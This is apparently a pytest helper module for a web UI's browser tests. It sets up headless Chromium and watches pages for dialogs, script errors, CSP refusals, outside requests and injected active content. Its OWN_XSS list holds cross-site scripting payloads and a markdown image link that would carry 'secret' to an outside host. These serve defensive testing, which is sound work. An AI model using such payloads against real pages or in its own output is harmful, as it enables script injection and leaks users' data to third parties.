"""Chromium for the UI tests: the module-scoped browser fixture (skipped, or failed under
LLMOPS_REQUIRE_BROWSER=1, when Debian's Chromium or playwright is missing), our XSS payloads, and
a watch on a page that fails a test on dialogs, script errors, CSP refusals, requests beyond the
server and active content left in the page.

Each test module makes its own ``browser = browser_fixture()`` and keeps its own xdist_group, so
one worker runs a module with one browser.
"""

from __future__ import annotations

import importlib.util
import os
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING, Any, Literal

import pytest

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page, ViewportSize

CHROMIUM = Path("/usr/bin/chromium")
REQUIRED = os.environ.get("LLMOPS_REQUIRE_BROWSER") == "1"
#: the page's own scripts, the only ones it may load
SCRIPTS = ("app.js", "vendor/uplot/uPlot.iife.min.js")
VIEWPORT: ViewportSize = {"width": 1400, "height": 900}

#: Our own payloads: each would set window.__xss if the page ever ran it.
OWN_XSS = [
    "<script>window.__xss=1</script>",
    '<img src=x onerror="window.__xss=1">',
    '<a href="javascript:window.__xss=1">click me</a>',
    "javascript:window.__xss=1",
    '"><svg onload="window.__xss=1"><iframe src="javascript:window.__xss=1">',
    "[click](javascript:window.__xss=1) ![x](https://wuzzi.net/logo.png?q=secret)",
]


@contextmanager
def isolated(root: Path) -> Iterator[pytest.MonkeyPatch]:
    """A module's site environment: no config, store URL or default model from outside,
    LLMOPS_HOME under ``root``, ``root`` the working folder (a module-scoped fixture runs before
    the per-test isolation is active)."""
    with pytest.MonkeyPatch.context() as patch:
        for name in ("LLMOPS_CONFIG", "LLMOPS_STORE_URL", "LLMOPS_DEFAULT_MODEL"):
            patch.delenv(name, raising=False)
        patch.setenv("LLMOPS_HOME", str(root / "home"))
        patch.chdir(root)
        yield patch


def browser_fixture() -> Callable[[], Iterator[Browser]]:
    """A module-scoped ``browser`` fixture: one headless Chromium per test module."""

    @pytest.fixture(scope="module")
    def browser() -> Iterator[Browser]:
        reason = None
        if not CHROMIUM.exists():
            reason = f"{CHROMIUM} not found (apt-get install chromium; scripts/system-deps.sh does)"
        elif importlib.util.find_spec("playwright") is None:
            reason = "playwright is not installed (pip install -e '.[dev]')"
        if reason is not None:
            if REQUIRED:
                pytest.fail(f"LLMOPS_REQUIRE_BROWSER=1 but {reason}")
            pytest.skip(reason)
        from playwright.sync_api import expect, sync_playwright

        expect.set_options(timeout=10_000)
        with sync_playwright() as playwright:
            launched = playwright.chromium.launch(
                executable_path=str(CHROMIUM), headless=True, args=["--no-sandbox"]
            )
            yield launched
            launched.close()

    return browser


#: Anything in the page that could run or load something: on* attributes, links that are not
#: internal routes, src other than the allowed scripts (any script where ``scripts`` is null),
#: inline styles other than the custom properties the app sets (``styles``: "chart" lets uPlot
#: size its own elements inside a chart box, through the CSSOM, which the CSP allows; "all"
#: inspects every element; null none), frames and images; with ``count``, a script too many.
_ACTIVE_CONTENT = """({scripts, styles, count}) => {
  const bad = [];
  for (const el of document.querySelectorAll("*")) {
    for (const a of el.attributes) if (a.name.startsWith("on")) bad.push(`${el.tagName} ${a.name}`);
    const href = el.getAttribute("href");
    if (href !== null && el.tagName !== "LINK" && !href.startsWith("#/")) bad.push(`href ${href}`);
    const src = el.getAttribute("src");
    const allowed = el.tagName === "SCRIPT" && (scripts === null || scripts.includes(src));
    if (src !== null && !allowed) bad.push(`src ${src}`);
    const style = el.getAttribute("style");
    const inspected = styles === "all" || (styles === "chart" && el.closest(".chart") === null);
    const vars = (d) => !d.trim() || d.trim().startsWith("--");
    if (style && inspected && !style.split(";").every(vars)) bad.push(`style ${style}`);
  }
  for (const el of document.querySelectorAll("img, iframe, object, embed, svg, frame, base")) {
    bad.push(el.tagName);
  }
  const scriptCount = document.querySelectorAll("script").length;
  if (count && scripts !== null && scriptCount !== scripts.length) {
    bad.push(`${scriptCount} scripts`);
  }
  return bad;
}"""

Styles = Literal["chart", "all"] | None


def active_content(
    page: Page,
    *,
    scripts: Sequence[str] | None = SCRIPTS,
    styles: Styles = "chart",
    count: bool = True,
) -> list[str]:
    """What in the page could run or load something (see ``_ACTIVE_CONTENT``)."""
    options = {"scripts": None if scripts is None else list(scripts), "styles": styles}
    found: list[str] = page.evaluate(_ACTIVE_CONTENT, {**options, "count": count})
    return found


@dataclass
class Watch:
    """What a page did that it must not: dialogs, script errors, CSP refusals, requests
    beyond the server."""

    dialogs: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)
    outside: list[str] = field(default_factory=list)

    def check(
        self,
        page: Page,
        *,
        scripts: Sequence[str] | None = SCRIPTS,
        styles: Styles = "chart",
        count: bool = True,
    ) -> None:
        assert page.evaluate("typeof window.__xss") == "undefined"
        assert (self.dialogs, self.errors, self.outside) == ([], [], [])
        assert active_content(page, scripts=scripts, styles=styles, count=count) == []


def attach_watch(page: Page, origin: str | None, *, blobs: bool = False) -> Watch:
    """Record what ``page`` does that it must not; requests beyond ``origin`` (and ``blob:``
    URLs unless ``blobs``) count as outside, none where ``origin`` is None."""
    seen = Watch()

    def on_dialog(dialog: Any) -> None:
        seen.dialogs.append(dialog.message)
        dialog.dismiss()

    def on_console(message: Any) -> None:
        if message.type == "error" and "Failed to load resource" not in message.text:
            seen.errors.append(message.text)  # CSP refusals are console errors

    page.on("dialog", on_dialog)
    page.on("console", on_console)
    page.on("pageerror", lambda error: seen.errors.append(str(error)))
    if origin is not None:
        inside = (origin + "/", "blob:") if blobs else (origin + "/",)

        def on_request(request: Any) -> None:
            if not request.url.startswith(inside):
                seen.outside.append(request.url)

        page.on("request", on_request)
    return seen


@contextmanager
def watched_page(
    browser: Browser,
    origin: str | None,
    *,
    blobs: bool = False,
    scripts: Sequence[str] | None = SCRIPTS,
    styles: Styles = "chart",
    count: bool = True,
) -> Iterator[tuple[Page, Watch]]:
    """A new 1400 x 900 page under ``watch``, checked when the block ends, then closed."""
    context = browser.new_context(viewport=VIEWPORT)  # downloads are accepted by default
    opened = context.new_page()
    seen = attach_watch(opened, origin, blobs=blobs)
    yield opened, seen
    seen.check(opened, scripts=scripts, styles=styles, count=count)
    context.close()
